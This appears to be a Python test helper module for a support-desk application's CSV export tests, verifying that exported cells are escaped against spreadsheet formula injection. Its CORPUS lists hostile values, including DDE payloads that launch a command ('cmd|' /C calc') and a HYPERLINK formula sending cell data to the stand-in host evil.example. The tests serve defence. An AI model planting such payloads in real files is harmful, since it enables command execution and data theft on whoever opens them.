"""Shared data and helpers of the export tests (tests/integration/test_exports*.py)."""

from __future__ import annotations

import csv
import html
import io
from typing import Any

from fastapi.testclient import TestClient

from supportdesk.clock import FixedClock

TICKET_HEADER = [
    "ticket_number", "contact_email", "contact_name", "subject", "description_text",
    "status", "priority", "type", "source", "form_name", "form_is_deleted", "assigned_to",
    "company_name", "sla", "group", "category", "subcategory", "created_on", "updated_on",
    "resolved_on", "closed_on", "due_date", "first_response_time", "first_assigned_time",
    "first_assigned_duration", "resolved_duration", "first_replied_duration",
    "closed_duration", "watchers", "share_to", "conversation_count", "cf_Department",
    "cf_Employee ID",
]
CONTACT_HEADER = ("name,primary_email,secondary_emails,title,mobile,phone,company_name,"
                  "is_deleted,created_on,updated_on")
COMPANY_HEADER = ("name,description,phone,address,city,state,country,zipcode,sla,domains,"
                  "created_on,updated_on")
# Independent of the code under test: the OWASP signs, line breaks, full-width forms.
FORMULA_SIGNS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Hostile text: each value must come back as "'" + value in every text column.
CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1, "Click")',
    "+44 20 7946 0000",
    "-5",
    "@channel",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d5",
    "\uff20SUM(1)",
]


def table(content: bytes) -> list[list[str]]:
    """The CSV parsed back with the csv module (RFC 4180 dialect)."""
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def export(client: TestClient, kind: str, **params: str) -> Any:
    """``GET /apis/admin/exports/<kind>.csv``, which must answer 200."""
    response = client.get(f"/apis/admin/exports/{kind}.csv", params=params)
    assert response.status_code == 200, response.text
    return response


def new_ticket(client: TestClient, **body: Any) -> int:
    """Create a ticket through the v3 API; its number."""
    response = client.post("/apis/v3/tickets/create", json=body)
    assert response.status_code == 200, response.text
    number: int = response.json()["ticket_number"]
    return number


def ok(client: TestClient, url: str, body: dict[str, Any]) -> dict[str, Any]:
    """POST ``body`` to ``url``, which must succeed; the answer."""
    response = client.post(url, json=body)
    assert response.status_code in (200, 201), response.text
    payload: dict[str, Any] = response.json()
    return payload


def build_small(client: TestClient, clock: FixedClock) -> TestClient:
    """Two companies, three contacts, three tickets, at distinct times (acme's key)."""
    ok(client, "/apis/v3/companies/create", {
        "name": "Contoso", "domains": "contoso.com, contoso.net",
        "description": 'Says "hi", then\nleaves', "phone": "123456789", "city": "Springfield"})
    clock.advance(minutes=1)
    ok(client, "/apis/v3/companies/create", {"name": "Zoë AG", "sla": "Standard SLA"})
    clock.advance(minutes=1)
    ok(client, "/apis/v3/contacts/create", {
        "name": "Joe", "primary_email": "joe@contoso.com", "title": "Manager",
        "secondary_emails": "joe@contoso.net, j@contoso.com", "mobile": "07700 900123"})
    clock.advance(minutes=1)
    ok(client, "/apis/v3/contacts/create", {"name": "Zoë", "primary_email": "zoe@solo.example",
                                            "company_name": "Zoë AG"})
    clock.advance(minutes=1)
    new_ticket(client, email="joe@contoso.com", subject="Printer jam",
               description="<p>It <b>jams</b>, again</p>", priority=10,
               assign_to="alex.morgan@demo.example", group="Sales", type="Incident",
               category="Hardware", sub_category="Printer",
               custom_fields={"cf_Department": "Sales", "cf_Employee ID": "E-17"},
               watchers=["alex.morgan@demo.example", "priya.shah@demo.example"])
    clock.advance(minutes=1)
    new_ticket(client, email="new@solo.example", subject='Quote "this", please',
               status="Pending")
    clock.advance(minutes=1)
    new_ticket(client, email="zoe@solo.example", subject="Línea dos, ñ")
    return client


def build_hostile(client: TestClient) -> None:
    """One company, contact and ticket per CORPUS value, in every text field."""
    ok(client, "/apis/admin/custom_fields", {"label": "Tags", "field_type": "multi-select",
                                             "choices": CORPUS})
    for index, value in enumerate(CORPUS):
        ok(client, "/apis/v3/companies/create", {
            "name": value, "description": value, "phone": value[:50], "address": value,
            "city": value[:100], "state": value[:100], "country": value[:100],
            "zipcode": value[:20]})
        email = f"contact{index}@hostile.example"
        ok(client, "/apis/v3/contacts/create", {
            "name": value, "primary_email": email, "title": value, "mobile": value[:50],
            "phone": value[:50], "company_name": value})
        new_ticket(client, email=email, subject=value,
                   description=f"<p>{html.escape(value)}</p>",
                   custom_fields={"cf_Employee ID": value, "cf_Tags": [value]})


def formula_like(cell: str) -> bool:
    """A spreadsheet would run ``cell`` as a formula (written apart from the code under test)."""
    stripped = cell.lstrip(" \u00a0\u2007\u202f\u3000")
    return bool(stripped) and stripped[0] in FORMULA_SIGNS


